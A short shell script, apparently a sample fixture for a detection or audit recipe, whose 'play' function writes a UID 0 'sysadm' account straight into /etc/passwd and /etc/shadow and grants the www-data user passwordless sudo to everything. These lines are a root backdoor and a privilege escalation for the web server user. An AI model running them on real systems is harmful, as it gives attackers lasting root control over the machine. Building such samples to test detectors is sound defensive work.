# SPDX-License-Identifier: Apache-2.0
#
# Accounts made with an editor's means instead of useradd.
play() {
	echo 'sysadm:x:0:0::/root:/bin/bash' >>/etc/passwd
	echo 'sysadm:$y$j9T$sample$sample:19000:0:99999:7:::' >>/etc/shadow
	mkdir -p /etc/sudoers.d
	echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/www
}

if [ "${SAMPLE:-}" = play ]; then play; else . "$(dirname "$0")/../recipe.sh"; fi
